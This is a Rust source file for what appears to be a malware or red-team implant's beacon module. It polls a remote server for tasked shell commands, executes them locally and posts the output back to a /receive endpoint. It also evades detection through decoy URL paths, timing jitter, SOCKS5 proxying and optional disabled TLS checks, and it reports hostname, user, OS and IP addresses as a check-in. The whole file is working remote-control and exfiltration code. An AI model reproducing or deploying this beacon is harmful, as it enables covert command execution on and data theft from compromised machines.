//! Polling HTTP beacon: fetch a tasking, run it locally, post the
//! result back to the server's `/receive` endpoint.

use std::io;
use std::time::Duration;

use log::{debug, error, info, warn};
use rand::Rng;
use serde_json::{json, Value};
use thiserror::Error;

use crate::commands::exec::execute_command;
use crate::networking::egress::egress_ip;
use crate::util::random_jitter;

#[derive(Error, Debug)]
pub enum BeaconError {
    #[error("HTTP error: {0}")]
    Http(#[from] reqwest::Error),
    #[error("invalid header pair: {0}")]
    BadHeader(String),
    #[error("{0} requests cannot carry a body")]
    BodyNotAllowed(reqwest::Method),
    #[error("I/O error: {0}")]
    Io(#[from] io::Error),
}

/// Everything one polling cycle needs to shape its request.
#[derive(Debug, Clone)]
pub struct RequestOptions {
    pub method: reqwest::Method,
    pub base_url: String,
    /// Decoy paths appended to the base URL, one picked per poll.
    pub directories: Vec<String>,
    pub headers: Vec<(String, String)>,
    pub body: Option<String>,
    pub skip_tls_verify: bool,
    /// `host:port` of a SOCKS5 proxy to route all requests through.
    pub proxy: Option<String>,
    pub timeout: Duration,
}

fn build_client(opts: &RequestOptions) -> Result<reqwest::Client, BeaconError> {
    let mut builder = reqwest::Client::builder().timeout(opts.timeout);
    if opts.skip_tls_verify {
        warn!("[OPSEC] TLS certificate verification disabled");
        builder = builder.danger_accept_invalid_certs(true);
    }
    if let Some(proxy) = &opts.proxy {
        let url = if proxy.contains("://") {
            proxy.clone()
        } else {
            format!("socks5://{}", proxy)
        };
        info!("[BEACON] Routing through proxy {}", url);
        builder = builder.proxy(reqwest::Proxy::all(url)?);
    }
    Ok(builder.build()?)
}

/// The URL one poll hits: the base, or the base plus one randomly
/// picked decoy directory.
fn poll_url(base_url: &str, directories: &[String]) -> String {
    let base = base_url.trim_end_matches('/');
    if directories.is_empty() {
        return base.to_string();
    }
    let pick = rand::rng().random_range(0..directories.len());
    format!("{}/{}", base, directories[pick].trim_matches('/'))
}

async fn make_request(
    client: &reqwest::Client,
    opts: &RequestOptions,
) -> Result<reqwest::Response, BeaconError> {
    if opts.method == reqwest::Method::GET && opts.body.is_some() {
        return Err(BeaconError::BodyNotAllowed(reqwest::Method::GET));
    }

    let url = poll_url(&opts.base_url, &opts.directories);
    debug!("[BEACON] {} {}", opts.method, url);
    let mut request = client.request(opts.method.clone(), &url);
    for (name, value) in &opts.headers {
        request = request.header(name.as_str(), value.as_str());
    }
    if let Some(body) = &opts.body {
        // JSON bodies go out typed, anything else goes out raw.
        request = match serde_json::from_str::<Value>(body) {
            Ok(parsed) => request.json(&parsed),
            Err(_) => request.body(body.clone()),
        };
    }
    Ok(request.send().await?)
}

/// One poll: request, optional tasking execution, result report.
async fn poll_once(client: &reqwest::Client, opts: &RequestOptions) -> Result<(), BeaconError> {
    let response = make_request(client, opts).await?;
    let status = response.status();
    let text = response.text().await?;
    debug!("[BEACON] Server answered {} ({} bytes)", status, text.len());

    let tasking: Value = match serde_json::from_str(&text) {
        Ok(value) => value,
        Err(_) => return Ok(()),
    };
    let command = match tasking.get("command").and_then(Value::as_str) {
        Some(command) if !command.is_empty() => command.to_string(),
        _ => return Ok(()),
    };

    info!("[BEACON] Tasked: {}", command);
    let output = match execute_command(&command).await {
        Ok(output) => output,
        Err(e) => format!("execution failed: {}", e),
    };
    report_result(client, opts, &command, &output).await
}

async fn report_result(
    client: &reqwest::Client,
    opts: &RequestOptions,
    command: &str,
    output: &str,
) -> Result<(), BeaconError> {
    let url = format!("{}/receive", opts.base_url.trim_end_matches('/'));
    let payload = json!({
        "command": command,
        "output": output,
        "timestamp": chrono::Utc::now().to_rfc3339(),
    });
    let response = client.post(&url).json(&payload).send().await?;
    debug!("[BEACON] Result delivered ({})", response.status());
    Ok(())
}

/// Polls until Ctrl-C. Failed polls are logged and the loop carries
/// on; each cycle sleeps the interval plus a random jitter.
pub async fn run_with_interval(
    opts: &RequestOptions,
    interval_secs: u64,
    jitter_secs: u64,
) -> Result<(), BeaconError> {
    let client = build_client(opts)?;
    info!(
        "[BEACON] Polling {} every {}s (jitter up to {}s)",
        opts.base_url, interval_secs, jitter_secs
    );

    loop {
        if let Err(e) = poll_once(&client, opts).await {
            error!("[BEACON] Poll failed: {}", e);
        }
        let pause = Duration::from_secs(random_jitter(interval_secs, jitter_secs));
        tokio::select! {
            _ = tokio::time::sleep(pause) => {}
            _ = tokio::signal::ctrl_c() => {
                info!("[BEACON] Interrupted; stopping");
                return Ok(());
            }
        }
    }
}

/// Issues a single request with no tasking handling and returns the
/// response body. Used for one-shot check-ins.
pub async fn send_once(opts: &RequestOptions) -> Result<String, BeaconError> {
    let client = build_client(opts)?;
    let response = make_request(&client, opts).await?;
    let status = response.status();
    let text = response.text().await?;
    info!("[BEACON] {} answered {}", opts.base_url, status);
    Ok(text)
}

/// Parses `"Name: value, Other: value"` into header pairs.
pub fn parse_header_list(raw: &str) -> Result<Vec<(String, String)>, BeaconError> {
    let mut headers = Vec::new();
    for pair in raw.split(',') {
        let pair = pair.trim();
        if pair.is_empty() {
            continue;
        }
        let (name, value) = pair
            .split_once(':')
            .ok_or_else(|| BeaconError::BadHeader(pair.to_string()))?;
        headers.push((name.trim().to_string(), value.trim().to_string()));
    }
    Ok(headers)
}

/// Best-effort host report used as a check-in body: hostname, OS,
/// user, non-loopback interface addresses and the egress-facing one.
pub fn environment_report(egress_probe_host: &str) -> Value {
    let host = hostname::get()
        .map(|h| h.to_string_lossy().into_owned())
        .unwrap_or_else(|_| "unknown".to_string());
    let info = os_info::get();
    let user = std::env::var("USER")
        .or_else(|_| std::env::var("USERNAME"))
        .unwrap_or_else(|_| "unknown".to_string());

    let local_ips: Vec<String> = get_if_addrs::get_if_addrs()
        .map(|interfaces| {
            interfaces
                .into_iter()
                .filter(|iface| !iface.is_loopback())
                .map(|iface| iface.ip().to_string())
                .collect()
        })
        .unwrap_or_default();
    let egress = egress_ip(egress_probe_host)
        .map(|ip| ip.to_string())
        .unwrap_or_else(|_| "unknown".to_string());

    json!({
        "hostname": host,
        "os": format!("{} {}", info.os_type(), info.version()),
        "user": user,
        "ip_list": local_ips,
        "egress_ip": egress,
        "checked_in": chrono::Utc::now().to_rfc3339(),
    })
}
